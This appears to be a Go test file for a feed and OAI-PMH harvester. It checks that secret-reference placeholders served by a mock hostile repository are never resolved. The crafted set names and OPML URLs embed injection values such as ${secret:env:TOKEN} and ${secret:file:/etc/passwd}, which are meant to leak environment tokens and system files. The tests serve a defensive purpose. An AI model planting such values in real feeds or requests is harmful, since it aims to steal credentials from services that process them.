package activities

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strconv"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/vendemmia/vendemmia/campaigns"
	"github.com/vendemmia/vendemmia/fetchers"
	"github.com/vendemmia/vendemmia/fetchers/feed"
	"github.com/vendemmia/vendemmia/fetchers/oaipmh"
	"github.com/vendemmia/vendemmia/harvest/rows"
	"github.com/vendemmia/vendemmia/internal/local/replica"
	"github.com/vendemmia/vendemmia/internal/local/replica/oai"
	"github.com/vendemmia/vendemmia/internal/outcomes"
	"github.com/vendemmia/vendemmia/internal/secrets"
	"github.com/vendemmia/vendemmia/internal/visit"
	"github.com/vendemmia/vendemmia/workflows/steps"
)

// hostile stands in front of a replica, answers one path or verb itself, and
// keeps the query of every request.
type hostile struct {
	*httptest.Server
	mu      sync.Mutex
	queries []url.Values
}

func inFrontOf(t *testing.T, replica string, answer func(w http.ResponseWriter, r *http.Request) bool) *hostile {
	t.Helper()
	behind, err := url.Parse(replica)
	require.NoError(t, err)
	proxy := httputil.NewSingleHostReverseProxy(&url.URL{Scheme: behind.Scheme, Host: behind.Host})
	h := &hostile{}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.queries = append(h.queries, r.URL.Query())
		h.mu.Unlock()
		if !answer(w, r) {
			proxy.ServeHTTP(w, r)
		}
	}))
	t.Cleanup(h.Close)
	return h
}

// got are the values that a query parameter had.
func (h *hostile) got(name string) []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	var out []string
	for _, q := range h.queries {
		if v := q.Get(name); v != "" {
			out = append(out, v)
		}
	}
	return out
}

// fetching is a world with the real fetchers, whose worker knows a secret.
func fetching(t *testing.T) *world {
	t.Helper()
	w := newWorld(t)
	var err error
	w.Fetchers, err = fetchers.Set{}.With("oaipmh", oaipmh.New)
	require.NoError(t, err)
	w.Fetchers, err = w.Fetchers.With("feed", feed.New)
	require.NoError(t, err)
	w.Client = func(visit.Visitor) *http.Client { return http.DefaultClient }
	w.Secrets = secrets.Resolver{Getenv: env, Env: []string{"*"}, Dirs: []string{"/etc"}}
	return w
}

func (w *world) harvestAsked(t *testing.T, c campaigns.Campaign) steps.Summary {
	t.Helper()
	w.apply(c)
	return w.runAsked(t, c)
}

// runAsked is a run of an applied campaign whose only entry asks its source for items.
func (w *world) runAsked(t *testing.T, c campaigns.Campaign) steps.Summary {
	t.Helper()
	o := w.open(steps.Start{Campaign: c.Name})
	_, err := do(w, steps.Expand, steps.ExpandIn{RunOf: o.RunOf, Entry: c.Entries[0].Name})
	require.NoError(t, err)
	sealed, err := do(w, steps.SealRun, steps.SealRunIn{RunOf: o.RunOf})
	require.NoError(t, err)
	o.Ranges = sealed.Ranges
	_, err = w.fetch(o)
	require.NoError(t, err)
	return w.close(o)
}

// A repository names a set as a reference to a secret is written: the name is
// sent back as it is.
func TestTheNameOfASetIsNeverAReference(t *testing.T) {
	t.Parallel()
	repo, err := oai.Start(oai.Config{Records: 10, Collections: 1})
	require.NoError(t, err)
	t.Cleanup(repo.Close)
	evil := inFrontOf(t, repo.URL(), func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Query().Get("verb") != "ListSets" {
			return false
		}
		_, _ = w.Write([]byte(`<OAI-PMH xmlns="http://www.openarchives.org/OAI/2.0/"><responseDate>2026-05-03T16:00:00Z</responseDate><request>x</request><ListSets>` +
			`<set><setSpec>${secret:env:TOKEN}</setSpec><setName>evil</setName></set>` +
			`<set><setSpec>$${secret:env:TOKEN}</setSpec><setName>doubled</setName></set></ListSets></OAI-PMH>`))
		return true
	})
	w := fetching(t)
	c := campaigns.Adhoc("oaipmh", []byte(`{"url":`+strconv.Quote(evil.URL+"/oai")+`}`), 1)
	c.Name, c.Entries[0].Split = "repo", &campaigns.Split{Ask: "sets"}
	w.harvestAsked(t, c)
	sets := evil.got("set")
	require.Contains(t, sets, "${secret:env:TOKEN}")
	require.Contains(t, sets, "$${secret:env:TOKEN}", "a doubled dollar is sent as it came, too")
	require.NotContains(t, sets, "hush-hush")
}

func TestAnOutlineIsNeverAReference(t *testing.T) {
	t.Parallel()
	f, err := replica.StartFeeds(replica.Config{Feeds: 1})
	require.NoError(t, err)
	t.Cleanup(f.Close)
	var evil *hostile
	evil = inFrontOf(t, f.URL(f.Names()[0]), func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path != "/list.opml" {
			return false
		}
		_, _ = w.Write([]byte(`<opml version="2.0"><body><outline text="a" type="rss" xmlUrl="` + evil.URL +
			`/feed/0000?file=${secret:file:/etc/passwd}&amp;env=${secret:env:TOKEN}"/></body></opml>`))
		return true
	})
	w := fetching(t)
	c := campaigns.Adhoc("feed", []byte(`{"opml":`+strconv.Quote(evil.URL+"/list.opml")+`}`), 1)
	c.Name, c.Entries[0].Split = "news", &campaigns.Split{Ask: "opml"}
	w.harvestAsked(t, c)
	require.Equal(t, []string{"${secret:file:/etc/passwd}"}, evil.got("file"))
	require.Equal(t, []string{"${secret:env:TOKEN}"}, evil.got("env"))
}

// Where a reference is one: in the entry's params and in rows written in the
// campaign file. Where it is text: in a list that was stored, and in elements.
func TestOnlyTheCampaignFileRefersToSecrets(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	c := campaign("news")
	c.Entries[0].Params = json.RawMessage(`{"token":"${secret:env:TOKEN}","url":"https://a.example.org/"}`)
	c.Entries[0].Split.Items = []campaigns.Row{{Params: json.RawMessage(`{"name":"inline ${secret:env:TOKEN}"}`)}, {Params: json.RawMessage(`{"name":"$${secret:env:TOKEN}"}`)}}
	listed := c.Entries[0]
	listed.Name, listed.Split = "listed", &campaigns.Split{List: "sha256:1", Count: 1}
	c.Entries = append(c.Entries, listed)
	require.NoError(t, w.store.SaveList(t.Context(), "sha256:1", func(yield func(rows.ListRow) bool) {
		yield(rows.ListRow(`{"key":"k","written":true,"params":{"name":"cell \u0024{secret:env:TOKEN}"}}`))
	}))
	w.apply(c)
	o := w.open(steps.Start{Campaign: "news"})
	for _, r := range o.Ranges {
		_, err := do(w, steps.FetchItems, w.whole(o, r, 1))
		require.NoError(t, err)
	}
	var got []string
	for name := range w.script.asked {
		got = append(got, name)
	}
	require.ElementsMatch(t, []string{"inline hush-hush", "${secret:env:TOKEN}", "cell ${secret:env:TOKEN}"}, got)
}

func TestAStartRefersToNoSecret(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.apply(campaign("news", "a"))
	params := json.RawMessage(`{"name":"a","token":"\u0024{secret:env:TOKEN}"}`)
	for _, s := range []steps.Start{{Campaign: "news", Params: params}, {Fetcher: "scripted", Params: params}} {
		out, err := do(w, steps.OpenRun, w.in(s))
		require.NoError(t, err)
		require.Equal(t, outcomes.Misconfigured, out.Refused)
		require.Contains(t, out.Why, "${secret:env:TOKEN}: references to secrets are resolved only where they stand in a campaign file")
	}
	_, err := w.store.Definitions(context.Background(), "adhoc-scripted")
	require.NoError(t, err)
	require.Equal(t, 0, w.script.count("a"))
}

// only is a resolver that was given one variable.
func only(name string, value func() string) secrets.Resolver {
	return secrets.Resolver{Env: []string{name}, Getenv: func(string) string { return value() }}
}

func TestUnknownKeysOfAStartAreRefused(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.apply(campaign("news", "a"))
	for text, why := range map[string]string{
		`{"campaign":"news","from":"nonsense"}`: `a start has no key "from"; there are campaign,`,
		`{"campaign":"news","proccessors":2}`:   `a start has no key "proccessors"; did you mean processors?`,
		`{"campaign":"news","item":["a"]}`:      `did you mean items?`,
	} {
		var s steps.Start
		require.NoError(t, json.Unmarshal([]byte(text), &s))
		out, err := do(w, steps.OpenRun, w.in(s))
		require.NoError(t, err)
		require.Equal(t, outcomes.Misconfigured, out.Refused, text)
		require.Contains(t, out.Why, why)
	}
	require.Zero(t, w.script.count("a"))
}
